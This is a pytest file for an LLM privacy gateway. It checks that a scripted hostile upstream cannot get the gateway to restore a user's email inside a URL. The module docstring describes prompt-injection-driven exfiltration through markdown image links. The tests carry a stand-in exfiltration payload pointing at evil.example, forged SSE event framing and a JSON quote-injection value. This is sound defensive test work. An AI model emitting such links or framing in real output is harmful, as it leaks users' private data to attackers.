"""Attack paths closed in session 76, through the real gateway app (in process, the real core
without NER, a scripted hostile upstream) and the official SDKs' own stream accumulation.

An upstream steered by an attacker (or an instruction injected into a forwarded document) puts
a placeholder where the client will fetch it: inside a URL. The URL guard decides that on the
text the client sees, but it only saw the pieces the gateway restored one by one:

- the typed streams' other delta events (Responses ``response.reasoning_summary_text.delta``,
  ``response.reasoning_text.delta``...) were restored event by event: a URL opened in one
  delta and a placeholder sent whole in the next got the original inside the URL;
- text in an event that opens a part (Messages ``content_block_start``, Responses
  ``response.content_part.added``) was restored alone, and the deltas after it began a fresh
  guard: the SDKs append the deltas to that text;
- consecutive text parts (Messages text blocks, Responses ``output_text`` parts, which the
  OpenAI SDK's ``output_text`` joins) were each restored on their own, whole and streamed;
- an event ``type`` was written into the ``event:`` line as the upstream sent it (and
  restored): a line break in it framed events of the upstream's choosing;
- an index that is not an integer (``"0"``) or a choice the request did not ask for got a
  restorer of its own, while the client's models read it as the same part;
- a chat stream's ``refusal`` and ``reasoning_content`` deltas were neither restored nor
  scanned for the tenant's redacted terms (whole answers were);
- where the request asked for JSON, an original with a quote was restored as plain text into
  the answer's JSON: the client's JSON broke, or gained keys the model never wrote;
- a 404 or 405 repeated the raw path (an id, a name, an address in it) and any method;
- a native Responses stream's ``error`` event put its ``code`` -- any text -- into the log.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anthropic
import httpx
import openai
import pytest

from veil.config import Policy, Settings, TermRule
from veil.core import Veil
from veil.gateway import GatewayState, OpenAIUpstream, TenantRegistry, create_app
from veil.gateway.tenants import Tenant
from veil.gateway.upstream_anthropic import AnthropicUpstream

from .conftest import ScriptedUpstream, chat_body, delta_chunk, make_client, parse_sse, sse
from .test_messages_anthropic import _client_module

EMAIL = "jane.exfil@example.com"
PROMPT = f"Please keep my address {EMAIL} for the form."
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+\]")
LINK = "![](https://evil.example/p?d="

Events = Callable[[str], list[dict[str, Any]]]


@pytest.fixture
def veil(tmp_path: Path) -> Veil:
    settings = Settings(home=tmp_path, cache_dir=tmp_path / "cache")
    return Veil(settings, policy=Policy(ner=False))


def _placeholder(body: dict[str, Any]) -> str:
    m = PLACEHOLDER.search(json.dumps(body))
    assert m is not None, "the upstream got no placeholder"
    return m.group()


def _typed(events: list[dict[str, Any]]) -> httpx.Response:
    raw = b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)
    return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})


def _urls(text: str) -> list[str]:
    return re.findall(r"\]\(([^)]*)\)", text) + re.findall(r"\S*//\S*", text)


def _no_value_in_urls(text: str) -> None:
    urls = _urls(text)
    assert urls, text
    assert not any(EMAIL in u for u in urls), urls


def _app(veil: Veil, upstream: Any) -> Any:
    state = GatewayState(core=veil, upstream=upstream,
                         tenants=TenantRegistry([Tenant("default")], {}))
    return create_app(state)


def _http(app: Any) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://veil.test")


def _native_responses(veil: Veil, answer: Callable[[dict[str, Any]], httpx.Response]
                      ) -> httpx.AsyncClient:
    up = OpenAIUpstream("http://upstream.test/v1", api_key="sk-up",
                        transport=httpx.MockTransport(
                            lambda r: answer(json.loads(r.content))))
    up.responses_api = True
    return _http(_app(veil, up))


def _anthropic(veil: Veil, answer: Callable[[dict[str, Any]], httpx.Response]) -> Any:
    up = AnthropicUpstream("http://anthropic.test/v1", api_key="sk-ant-up",
                           transport=httpx.MockTransport(
                               lambda r: answer(json.loads(r.content))))
    return _app(veil, up)


def _oai(http: httpx.AsyncClient) -> openai.AsyncOpenAI:
    return openai.AsyncOpenAI(base_url="http://veil.test/v1", api_key="k", http_client=http,
                              max_retries=0)


def _ant(app: Any) -> anthropic.AsyncAnthropic:
    h = _client_module()  # the HTTP package the installed anthropic SDK is built on
    http = h.AsyncClient(transport=h.ASGITransport(app=app), base_url="http://veil.test")
    return anthropic.AsyncAnthropic(base_url="http://veil.test", api_key="k", http_client=http,
                                    max_retries=0)


# --- Responses: the typed stream's other deltas and the text that opens a part ---------------

def _response(output: list[dict[str, Any]], status: str = "completed") -> dict[str, Any]:
    return {"id": "resp_1", "object": "response", "created_at": 1, "status": status,
            "model": "gpt-4o-mini", "output": output, "parallel_tool_calls": True,
            "tool_choice": "auto", "tools": []}


def _message(texts: list[str], item_id: str = "msg_1") -> dict[str, Any]:
    return {"type": "message", "id": item_id, "role": "assistant", "status": "completed",
            "content": [{"type": "output_text", "text": t, "annotations": []} for t in texts]}


def _summary_events(p: str) -> list[dict[str, Any]]:
    pieces = [f"Noted: {p}. {LINK}", p, ") ok"]
    text = "".join(pieces)
    item = {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text",
                                                            "text": text}]}
    return [
        {"type": "response.created", "response": _response([], "in_progress")},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {"type": "reasoning", "id": "rs_1", "summary": []}},
        {"type": "response.reasoning_summary_part.added", "item_id": "rs_1", "output_index": 0,
         "summary_index": 0, "part": {"type": "summary_text", "text": ""}},
        *({"type": "response.reasoning_summary_text.delta", "item_id": "rs_1",
           "output_index": 0, "summary_index": 0, "delta": d} for d in pieces),
        {"type": "response.reasoning_summary_text.done", "item_id": "rs_1", "output_index": 0,
         "summary_index": 0, "text": text},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": _response([item])},
    ]


def _opened_part_events(p: str) -> list[dict[str, Any]]:
    """The URL comes in the event that opens the part, the placeholder in the delta."""
    text = f"{LINK}{p}) ok"
    return [
        {"type": "response.created", "response": _response([], "in_progress")},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**_message([]), "status": "in_progress"}},
        {"type": "response.content_part.added", "item_id": "msg_1", "output_index": 0,
         "content_index": 0, "part": {"type": "output_text", "text": LINK, "annotations": []}},
        {"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0,
         "content_index": 0, "delta": f"{p}) ok"},
        {"type": "response.output_text.done", "item_id": "msg_1", "output_index": 0,
         "content_index": 0, "text": text},
        {"type": "response.output_item.done", "output_index": 0, "item": _message([text])},
        {"type": "response.completed", "response": _response([_message([text])])},
    ]


def _two_parts_events(p: str) -> list[dict[str, Any]]:
    """Two output_text parts, which the client joins: the URL ends one, the value opens the
    next."""
    texts = [f"Noted: {p}. {LINK}", f"{p}) ok"]
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": _response([], "in_progress")},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**_message([]), "status": "in_progress"}},
    ]
    for ci, t in enumerate(texts):
        events += [
            {"type": "response.content_part.added", "item_id": "msg_1", "output_index": 0,
             "content_index": ci, "part": {"type": "output_text", "text": "",
                                           "annotations": []}},
            {"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0,
             "content_index": ci, "delta": t},
            {"type": "response.output_text.done", "item_id": "msg_1", "output_index": 0,
             "content_index": ci, "text": t},
        ]
    events += [{"type": "response.output_item.done", "output_index": 0,
                "item": _message(texts)},
               {"type": "response.completed", "response": _response([_message(texts)])}]
    return events


def _stream_of(events: Events) -> Callable[[dict[str, Any]], httpx.Response]:
    return lambda body: _typed(events(_placeholder(body)))


def _deltas(raw: str, typ: str) -> str:
    events, _ = parse_sse(raw)
    return "".join(e["delta"] for e in events if e.get("type") == typ)


async def test_a_reasoning_summary_stream_keeps_values_out_of_urls(veil: Veil) -> None:
    async with _native_responses(veil, _stream_of(_summary_events)) as http:
        r = await http.post("/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT,
                                                   "stream": True, "store": False})
    assert r.status_code == 200, r.text
    seen = _deltas(r.text, "response.reasoning_summary_text.delta")
    assert seen.startswith(f"Noted: {EMAIL}. {LINK}"), seen  # prose gets the original
    _no_value_in_urls(seen)
    events, _ = parse_sse(r.text)
    done = next(e for e in events if e["type"] == "response.reasoning_summary_text.done")
    assert done["text"] == seen  # the done event spells what the deltas spelled


async def test_text_that_opens_a_part_is_read_with_its_deltas(veil: Veil) -> None:
    async with _native_responses(veil, _stream_of(_opened_part_events)) as http:
        r = await http.post("/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT,
                                                   "stream": True, "store": False})
    # what the SDK builds: the part's opening text, then the deltas appended to it
    events, _ = parse_sse(r.text)
    built = "".join(e["part"]["text"] if e["type"] == "response.content_part.added"
                    else e["delta"] for e in events
                    if e["type"] in ("response.content_part.added", "response.output_text.delta"))
    _no_value_in_urls(built)
    final = next(e for e in events if e["type"] == "response.completed")["response"]
    _no_value_in_urls(final["output"][0]["content"][0]["text"])


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_the_sdks_output_text_joins_parts_without_a_value_in_a_url(
    veil: Veil, stream: bool
) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        if body.get("stream"):
            return _typed(_two_parts_events(p))
        return httpx.Response(200, json=_response([_message([f"Noted: {p}. {LINK}",
                                                             f"{p}) ok"])]))

    async with _native_responses(veil, answer) as http:
        client = _oai(http)
        if stream:
            async with client.responses.stream(model="gpt-4o-mini", input=PROMPT,
                                               store=False) as s:
                seen = "".join([e.delta async for e in s
                                if e.type == "response.output_text.delta"])
                final = await s.get_final_response()
            _no_value_in_urls(seen)
        else:
            final = await client.responses.create(model="gpt-4o-mini", input=PROMPT,
                                                  store=False)
    assert final.output_text.startswith(f"Noted: {EMAIL}. "), final.output_text
    _no_value_in_urls(final.output_text)


async def test_message_items_are_joined_too(veil: Veil) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        return httpx.Response(200, json=_response([_message([f"Noted: {p}. {LINK}"], "msg_1"),
                                                   _message([f"{p}) ok"], "msg_2")]))

    async with _native_responses(veil, answer) as http:
        final = await _oai(http).responses.create(model="gpt-4o-mini", input=PROMPT,
                                                  store=False)
    assert final.output_text.startswith(f"Noted: {EMAIL}. "), final.output_text
    _no_value_in_urls(final.output_text)


# --- Anthropic Messages: text blocks, the block's opening text, the event name ---------------

def _msg(blocks: list[dict[str, Any]]) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x",
            "content": blocks, "stop_reason": "end_turn", "stop_sequence": None,
            "usage": {"input_tokens": 1, "output_tokens": 1}}


def _msg_stream(blocks: list[tuple[str, list[str]]],
                extra: list[dict[str, Any]] | None = None) -> list[dict[str, Any]]:
    """A Messages stream of text blocks, each (its opening text, its deltas)."""
    events: list[dict[str, Any]] = [{"type": "message_start", "message": _msg([])}]
    for i, (opening, deltas) in enumerate(blocks):
        events.append({"type": "content_block_start", "index": i,
                       "content_block": {"type": "text", "text": opening}})
        events += [{"type": "content_block_delta", "index": i,
                    "delta": {"type": "text_delta", "text": d}} for d in deltas]
        events.append({"type": "content_block_stop", "index": i})
    events += extra or []
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn",
                                                   "stop_sequence": None},
                "usage": {"output_tokens": 5}},
               {"type": "message_stop"}]
    return events


def _joined(message: Any) -> str:
    return "".join(b.text for b in message.content if b.type == "text")


@pytest.mark.parametrize("shape", ["opening text", "two blocks"])
async def test_messages_stream_keeps_values_out_of_urls(veil: Veil, shape: str) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        if shape == "opening text":
            return _typed(_msg_stream([(f"Noted: {p}. {LINK}", [p, ") ok"])]))
        return _typed(_msg_stream([("", [f"Noted: {p}. {LINK}"]), ("", [p, ") ok"])]))

    async with _ant(_anthropic(veil, answer)).messages.stream(
        model="claude-x", max_tokens=64, messages=[{"role": "user", "content": PROMPT}]
    ) as s:
        final = await s.get_final_message()
    text = _joined(final)
    assert text.startswith(f"Noted: {EMAIL}. "), text
    _no_value_in_urls(text)


async def test_messages_text_blocks_are_restored_as_one_text(veil: Veil) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        return httpx.Response(200, json=_msg([
            {"type": "text", "text": f"Noted: {p}. {LINK}"}, {"type": "text", "text": f"{p}) ok"},
        ]))

    final = await _ant(_anthropic(veil, answer)).messages.create(
        model="claude-x", max_tokens=64, messages=[{"role": "user", "content": PROMPT}])
    text = _joined(final)
    assert [b.type for b in final.content] == ["text", "text"]  # the blocks stay
    assert text.startswith(f"Noted: {EMAIL}. "), text
    _no_value_in_urls(text)


async def test_an_event_type_that_is_no_name_ends_the_stream(veil: Veil) -> None:
    """A line break in ``type`` framed the upstream's own event; restored, it carried the
    original into the text the client joins (the URL began in the block before)."""

    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        forged = json.dumps({"type": "content_block_delta", "index": 0,
                             "delta": {"type": "text_delta", "text": f"{p})"}})
        sneaky = {"type": f"ping\ndata: {forged}\n\nevent: ping"}
        events = _msg_stream([("", [LINK])])
        return _typed([*events[:3], sneaky, *events[3:]])

    async with _http(_anthropic(veil, answer)) as http:
        r = await http.post("/v1/messages", json={
            "model": "claude-x", "max_tokens": 64, "stream": True,
            "messages": [{"role": "user", "content": PROMPT}]})
    assert EMAIL not in r.text
    names = re.findall(r"^event: (.*)$", r.text, flags=re.M)
    assert all(re.fullmatch(r"[a-z_.]+", n) for n in names), names
    assert names[-1] == "error", names


async def test_an_index_that_is_no_integer_ends_the_stream(veil: Veil) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        events = _msg_stream([("", [LINK])])
        forged = {"type": "content_block_delta", "index": "0",
                  "delta": {"type": "text_delta", "text": f"{p})"}}
        return _typed([*events[:3], forged, *events[3:]])

    async with _http(_anthropic(veil, answer)) as http:
        r = await http.post("/v1/messages", json={
            "model": "claude-x", "max_tokens": 64, "stream": True,
            "messages": [{"role": "user", "content": PROMPT}]})
    assert EMAIL not in r.text
    assert re.findall(r"^event: (.*)$", r.text, flags=re.M)[-1] == "error"


# --- chat streams: choice indices, refusal and reasoning deltas ------------------------------

def _chat_stream(chunks: list[dict[str, Any]]) -> httpx.Response:
    return httpx.Response(200, content=sse(chunks), headers={"content-type": "text/event-stream"})


@pytest.mark.parametrize("index", ["0", 1], ids=["string", "not asked for"])
async def test_a_choice_the_client_reads_as_another_ends_the_stream(
    veil: Veil, index: Any
) -> None:
    """Most clients read ``choices[0]`` of every chunk: a chunk of choice ``"0"``, or of a
    choice the request did not ask for, continues the text they show."""
    upstream = ScriptedUpstream()

    def reply(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        forged = delta_chunk({"content": f"{p})"})
        forged["choices"][0]["index"] = index
        return _chat_stream([delta_chunk({"role": "assistant", "content": LINK}), forged,
                             delta_chunk({}, "stop")])

    upstream.reply = reply
    client, _ = make_client(veil, upstream)  # type: ignore[arg-type]
    async with client:
        r = await client.post("/v1/chat/completions", json={
            "model": "m", "stream": True, "messages": [{"role": "user", "content": PROMPT}]})
    events, done = parse_sse(r.text)
    assert EMAIL not in r.text
    assert done and "error" in events[-1], events[-1]


async def test_two_choices_asked_for_are_restored_each(veil: Veil) -> None:
    upstream = ScriptedUpstream()

    def reply(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        chunks = []
        for i in (0, 1):
            c = delta_chunk({"content": f"Noted: {p}."})
            c["choices"][0]["index"] = i
            chunks.append(c)
        return _chat_stream([*chunks, delta_chunk({}, "stop")])

    upstream.reply = reply
    client, _ = make_client(veil, upstream)  # type: ignore[arg-type]
    async with client:
        r = await client.post("/v1/chat/completions", json={
            "model": "m", "stream": True, "n": 2,
            "messages": [{"role": "user", "content": PROMPT}]})
    events, done = parse_sse(r.text)
    assert done and not any("error" in e for e in events), events
    texts = {c["index"]: c["delta"].get("content") for e in events for c in e["choices"]
             if c["delta"].get("content")}
    assert texts == {0: f"Noted: {EMAIL}.", 1: f"Noted: {EMAIL}."}


@pytest.mark.parametrize("key", ["refusal", "reasoning_content", "reasoning"])
async def test_stream_refusal_and_reasoning_are_restored_and_scanned(key: str) -> None:
    from .fakes import FakeVeil

    upstream = ScriptedUpstream()
    upstream.reply = lambda body: _chat_stream([
        delta_chunk({"role": "assistant", key: "About [EMAIL_1]: Project "}),
        delta_chunk({key: "Falcon is ours."}), delta_chunk({}, "stop")])
    client, _ = make_client(FakeVeil(output_terms={"default": ["Project Falcon"]}), upstream)
    async with client:
        r = await client.post("/v1/chat/completions", json={
            "model": "m", "stream": True,
            "messages": [{"role": "user", "content": "mail jane@example.com"}]})
    events, _ = parse_sse(r.text)
    seen = "".join(c["delta"].get(key) or "" for e in events for c in e.get("choices") or [])
    assert seen == "About jane@example.com: [REDACTED] is ours.", seen


async def test_whole_reasoning_is_restored_and_scanned() -> None:
    from .fakes import FakeVeil

    upstream = ScriptedUpstream()
    answer = chat_body("ok")
    answer["choices"][0]["message"]["reasoning"] = "About [EMAIL_1]: Project Falcon."
    upstream.reply = lambda body: httpx.Response(200, json=answer)
    client, _ = make_client(FakeVeil(output_terms={"default": ["Project Falcon"]}), upstream)
    async with client:
        r = await client.post("/v1/chat/completions", json={
            "model": "m", "messages": [{"role": "user", "content": "mail jane@example.com"}]})
    assert r.json()["choices"][0]["message"]["reasoning"] == \
        "About jane@example.com: [REDACTED]."


async def test_interleaved_text_blocks_end_the_stream(veil: Veil) -> None:
    """The guard reads the blocks in the order they arrive; a client joins them block by
    block. An upstream interleaving them would make the two orders differ."""

    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        start = [{"type": "message_start", "message": _msg([])}] + [
            {"type": "content_block_start", "index": i,
             "content_block": {"type": "text", "text": ""}} for i in (0, 1)]
        deltas = [{"type": "content_block_delta", "index": i,
                   "delta": {"type": "text_delta", "text": t}}
                  for i, t in ((1, f"{p})"), (0, f"Noted. {LINK}"))]
        return _typed([*start, *deltas, {"type": "message_stop"}])

    async with _http(_anthropic(veil, answer)) as http:
        r = await http.post("/v1/messages", json={
            "model": "claude-x", "max_tokens": 64, "stream": True,
            "messages": [{"role": "user", "content": PROMPT}]})
    assert re.findall(r"^event: (.*)$", r.text, flags=re.M)[-1] == "error"


async def test_a_held_thinking_tail_goes_out_as_thinking(veil: Veil) -> None:
    def answer(body: dict[str, Any]) -> httpx.Response:
        p = _placeholder(body)
        return _typed([
            {"type": "message_start", "message": _msg([])},
            {"type": "content_block_start", "index": 0,
             "content_block": {"type": "thinking", "thinking": ""}},
            {"type": "content_block_delta", "index": 0,
             "delta": {"type": "thinking_delta", "thinking": f"About {p[:4]}"}},
            {"type": "content_block_delta", "index": 0,
             "delta": {"type": "thinking_delta", "thinking": p[4:-1]}},
            {"type": "content_block_stop", "index": 0},
            {"type": "message_stop"}])

    async with _http(_anthropic(veil, answer)) as http:
        r = await http.post("/v1/messages", json={
            "model": "claude-x", "max_tokens": 64, "stream": True,
            "messages": [{"role": "user", "content": PROMPT}]})
    events, _ = parse_sse(r.text)
    deltas = [e["delta"] for e in events if e.get("type") == "content_block_delta"]
    assert {d["type"] for d in deltas} == {"thinking_delta"}, deltas
    assert "".join(d["thinking"] for d in deltas).startswith("About ")


@pytest.mark.parametrize(("method", "path"), [
    ("POST", f"/v1/{EMAIL}/chat/completions"), ("GET", f"/v1/files/{EMAIL}/x"),
    ("PUT", "/v1/chat/completions"), ("ODILE", "/v1/chat/completions"),
])
async def test_routing_errors_repeat_no_path_or_method(client: httpx.AsyncClient, method: str,
                                                       path: str) -> None:
    """A 404 or 405 named the raw path (an id, a name, an address in it) and any method."""
    r = await client.request(method, path)
    assert r.status_code in (404, 405), r.text
    message = r.json()["error"]["message"]
    assert EMAIL not in message and "/v1/" not in message and "ODILE" not in message, message


# --- JSON output: an original with a quote stays inside its string ---------------------------

QUOTED = 'Acme "Falcon" Labs", "admin": "yes'


@pytest.fixture
def quoting_veil(tmp_path: Path) -> Veil:
    """A tenant term with quotes in it (a product, a nickname): the original to restore."""
    settings = Settings(home=tmp_path, cache_dir=tmp_path / "cache")
    return Veil(settings, policy=Policy(ner=False, terms=[TermRule(term=QUOTED, type="ORG")]))


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("endpoint", ["chat/completions", "responses"])
async def test_json_output_gets_originals_json_escaped(quoting_veil: Veil, endpoint: str,
                                                       stream: bool) -> None:
    """Restored as text, the quote ended the JSON string: the client's JSON broke, or took
    keys the model never wrote (``"admin": "yes"``)."""
    upstream = ScriptedUpstream()

    def reply(body: dict[str, Any]) -> httpx.Response:
        answer = json.dumps({"org": _placeholder(body)})
        if not body.get("stream"):
            return httpx.Response(200, json=chat_body(answer))
        return _chat_stream([delta_chunk({"content": answer[i:i + 4]})
                             for i in range(0, len(answer), 4)] + [delta_chunk({}, "stop")])

    upstream.reply = reply
    client, _ = make_client(quoting_veil, upstream)  # type: ignore[arg-type]
    prompt = f"Describe {QUOTED} as JSON."
    body: dict[str, Any] = (
        {"model": "m", "messages": [{"role": "user", "content": prompt}],
         "response_format": {"type": "json_object"}} if endpoint == "chat/completions"
        else {"model": "m", "input": prompt, "store": False,
              "text": {"format": {"type": "json_object"}}})
    async with client:
        r = await client.post(f"/v1/{endpoint}", json={**body, "stream": stream})
    assert r.status_code == 200, r.text
    if not stream:
        data = r.json()
        text = (data["choices"][0]["message"]["content"] if endpoint == "chat/completions"
                else data["output"][0]["content"][0]["text"])
    else:
        events, _ = parse_sse(r.text)
        text = "".join(
            (c["delta"].get("content") or "") for e in events for c in e.get("choices") or []
        ) + "".join(e["delta"] for e in events if e.get("type") == "response.output_text.delta")
    assert json.loads(text) == {"org": QUOTED}, text


async def test_a_stream_errors_code_never_carries_text_into_the_log(
    veil: Veil, caplog: pytest.LogCaptureFixture
) -> None:
    """A native Responses stream's ``error`` event was taken as it came: its ``code`` (text
    of the upstream's choosing, which may quote the masked prompt) went into the log line and
    the exception text; an HTTP error body's code was already kept only as an identifier."""
    quoted = "the user wrote: my diagnosis is HIV"

    def answer(body: dict[str, Any]) -> httpx.Response:
        return _typed([{"type": "response.created", "response": _response([], "in_progress")},
                       {"type": "error", "code": quoted, "message": "failed"}])

    async with _native_responses(veil, answer) as http:
        with caplog.at_level("DEBUG"):
            r = await http.post("/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT,
                                                       "stream": True, "store": False})
    events, _ = parse_sse(r.text)
    assert events[-1]["type"] == "error", events[-1]
    assert "HIV" not in caplog.text
    assert "HIV" not in json.dumps(events[-1]["code"])
